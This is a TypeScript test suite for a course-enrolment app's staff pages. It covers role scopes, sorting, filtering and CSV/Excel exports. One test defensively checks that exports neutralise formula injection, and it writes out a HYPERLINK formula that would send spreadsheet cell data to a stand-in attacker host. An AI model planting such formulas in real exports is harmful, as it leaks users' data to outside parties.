import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { Client, buildLearner, buildStaff, startTestApp, type TestApp } from '../../../test/app';
import { seedCatalogue } from '../catalogue/catalogue.seed';
import { assignScope } from '../scopes';

const sessionCodes = (html: string) => [...html.matchAll(/<td>(S\d{6})<\/td>/g)].map((m) => m[1]);

describe('staff home and scopes', () => {
  let t: TestApp;
  before(async () => {
    t = await startTestApp({ now: new Date('2026-11-23T10:00:00Z') });
    await seedCatalogue(t.db, t.clock);
  });
  after(() => t.close());

  async function staffWith(role: 'admin' | 'coordinator' | 'school_head' | 'trainer', scope: Parameters<typeof assignScope>[1] extends infer S ? Omit<S & object, 'userId'> : never) {
    const staff = await buildStaff(t.db, t.clock, role);
    assert.deepEqual(await assignScope(t.db, { userId: staff.userId, ...scope }), { ok: true });
    const browser = new Client(t.app);
    const login = await browser.loginStaff(staff.email, staff.totpSecret, t.clock);
    assert.equal(login.headers.location, '/personnel');
    return browser;
  }

  it('a school head sees their school only; another school is never listed', async () => {
    const browser = await staffWith('school_head', { schools: ['E-11-01'] });
    const page = await browser.get('/personnel');
    assert.equal(page.statusCode, 200);
    const codes = sessionCodes(page.body);
    assert.ok(codes.length > 0);
    assert.ok(!page.body.includes('E-12-01'));
    const rows = await t.database.pool.query<{ code: string; school: string }>(
      'select s.code, sc.code as school from course_sessions s join schools sc on sc.id = s.school_id where s.code = any($1)',
      [codes],
    );
    assert.ok(rows.rows.every((r) => r.school === 'E-11-01'), JSON.stringify(rows.rows.slice(0, 3)));
  });

  it('a trainer sees their own sessions only, even with a school wrongly assigned', async () => {
    const browser = await staffWith('trainer', { sessions: ['S000001', 'S000002'], schools: ['E-11-01'] });
    assert.deepEqual(sessionCodes((await browser.get('/personnel')).body).sort(), ['S000001', 'S000002']);
  });

  it('a coordinator sees their schools and domains; an administrator sees everything', async () => {
    const coordinator = await staffWith('coordinator', { domains: ['langues-etrangeres'] });
    const page = await coordinator.get('/personnel');
    const codes = sessionCodes(page.body);
    assert.ok(codes.length > 0 && !page.body.includes('Cuisine française'));
    const admin = await staffWith('admin', {});
    assert.equal(sessionCodes((await admin.get('/personnel')).body).length, 400);
  });

  it('the list is sortable and filterable, and the exports follow the same filters', async () => {
    const admin = await staffWith('admin', {});
    const sorted = await admin.get('/personnel?sort=capacity&dir=desc');
    const capacities = [...sorted.body.matchAll(/<td>S\d{6}<\/td>(?:<td>.*?<\/td>){4}<td>(\d+)<\/td>/g)].map((m) => Number(m[1]));
    assert.ok(capacities.length === 400 && capacities.every((c, i) => i === 0 || c <= capacities[i - 1]), 'capacity, largest first');
    assert.match(sorted.body, /aria-sort="descending"/);
    const period = await admin.get('/personnel?period=automne-intensif');
    const some = sessionCodes(period.body);
    assert.ok(some.length > 0 && some.length < 400);
    const csv = await admin.get('/personnel/sessions.csv?period=automne-intensif');
    assert.equal(csv.body.trim().split('\n').length - 1, some.length);
    assert.equal(sessionCodes((await admin.get('/personnel?show=waiting')).body).length, 0, 'no waiting list yet');
    for (const bad of ['/personnel?sort=%3Cx%3E&dir=up', '/personnel?period[]=x', '/personnel?show=everything&q=' + 'é'.repeat(300)]) assert.equal((await admin.get(bad)).statusCode, 200, bad);
  });

  it('exports are scoped too: CSV and a real Excel workbook', async () => {
    const browser = await staffWith('school_head', { schools: ['E-05-01'] });
    const listed = sessionCodes((await browser.get('/personnel')).body);
    const csv = await browser.get('/personnel/sessions.csv');
    assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
    const lines = csv.body.trim().split('\n');
    assert.match(lines[0], /Session,Cours,Établissement/);
    assert.deepEqual(lines.slice(1).map((l) => l.split(',')[0]).sort(), [...listed].sort());
    const xlsx = await t.app.inject({ url: '/personnel/sessions.xlsx', headers: { cookie: [...browser.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
    assert.equal(xlsx.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    assert.equal(sheet.rowCount, listed.length + 1);
    assert.equal(sheet.getRow(1).getCell(1).value, 'Session');
  });

  it('exports neutralise formulas: a course title starting with =, +, - or @ is text in the CSV and in the workbook', async () => {
    const titles = ['=HYPERLINK("https://evil.example/?"&A1,"Voir le dossier")', '+SUM(1,2)', '-2+3', '@SUM(1)'];
    const { rows } = await t.database.pool.query<{ id: number; title: string; session: string }>(
      `select distinct on (c.id) c.id, c.title, s.code as session from courses c join course_sessions s on s.course_id = c.id
       join schools sc on sc.id = s.school_id where sc.code = 'E-05-01' order by c.id, s.code limit 4`,
    );
    assert.equal(rows.length, 4);
    try {
      for (const [i, row] of rows.entries()) await t.database.pool.query('update courses set title = $1 where id = $2', [titles[i], row.id]);
      const browser = await staffWith('school_head', { schools: ['E-05-01'] });
      const csv = await browser.get('/personnel/sessions.csv');
      const records: string[][] = parse(csv.body, { bom: true });
      const course = (session: string) => records.find((r) => r[0] === session)?.[1];
      for (const [i, row] of rows.entries()) assert.equal(course(row.session), `'${titles[i]}`, titles[i]);
      assert.ok(records.slice(1).every((r) => /^\d+$/.test(r[5])), 'numbers stay numbers');

      const xlsx = await t.app.inject({ url: '/personnel/sessions.xlsx', headers: { cookie: [...browser.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0];
      const cells = new Map<string, ExcelJS.Cell>();
      sheet.eachRow((r) => cells.set(String(r.getCell(1).value), r.getCell(2)));
      for (const [i, row] of rows.entries()) {
        const cell = cells.get(row.session)!;
        assert.equal(cell.type, ExcelJS.ValueType.String, `${titles[i]}: a text cell, not a formula`);
        assert.equal(cell.value, titles[i]);
      }
    } finally {
      for (const row of rows) await t.database.pool.query('update courses set title = $1 where id = $2', [row.title, row.id]);
    }
  });

  it('learners get a 403, visitors the login page, for every staff page', async () => {
    const learner = await buildLearner(t.db, t.clock);
    const browser = new Client(t.app);
    await browser.login(learner.email);
    for (const url of ['/personnel', '/personnel/sessions.csv', '/personnel/sessions.xlsx']) {
      assert.equal((await browser.get(url)).statusCode, 403, url);
      assert.equal((await new Client(t.app).get(url)).statusCode, 303, url);
    }
  });

  it('SEL-10 a coordinator sees the open change-of-day requests of their scope, however many the rest of the city has', async () => {
    const sessions = await t.database.pool.query<{ id: number; course_id: number; school: string }>(
      `select distinct on (sc.code) s.id, s.course_id, sc.code as school from course_sessions s join schools sc on sc.id = s.school_id
       where sc.code in ('E-11-01', 'E-12-01') order by sc.code, s.code`,
    );
    const mine = sessions.rows.find((r) => r.school === 'E-11-01')!;
    const elsewhere = sessions.rows.find((r) => r.school === 'E-12-01')!;
    // One statement: 600 learners, each accepted in a session of another school, each with an
    // open request recorded before the one in scope.
    const request = (session: typeof mine, count: number, at: Date) =>
      t.database.pool.query<{ application_id: string }>(
        `with u as (
           insert into users (email, password_hash, status, created_at)
           select 'cr-' || lower($4) || '-' || g || '@example.org', 'x', 'active', $3 from generate_series(1, $5::int) g returning id),
         a as (
           insert into applications (learner_id, session_id, course_id, status, situation, objective, motivations, rules_accepted_at, created_at, confirmed_at)
           select id, $1, $2, 'accepted', 'other', 'other', 'x', $3, $3, $3 from u returning id)
         insert into change_requests (application_id, note, recorded_by, recorded_at)
         select id, 'Autre jour', gen_random_uuid(), $3 from a returning application_id`,
        [session.id, session.course_id, at, session.school, count],
      );
    await request(elsewhere, 600, new Date(t.clock.now().getTime() - 86_400_000));
    const [theirs] = (await request(mine, 1, t.clock.now())).rows;
    const coordinator = await staffWith('coordinator', { schools: ['E-11-01'] });
    const home = await coordinator.get('/personnel');
    assert.match(home.body, /Demandes de changement de jour en attente \(1\)/);
    assert.match(home.body, new RegExp(`/personnel/candidatures/${theirs.application_id}`));
  });

  it('a staff member with no scope sees nothing, and is told why', async () => {
    const browser = await staffWith('school_head', {});
    const page = await browser.get('/personnel');
    assert.equal(sessionCodes(page.body).length, 0);
    assert.match(page.body, /Aucune session ne vous est encore attribuée/);
  });
});
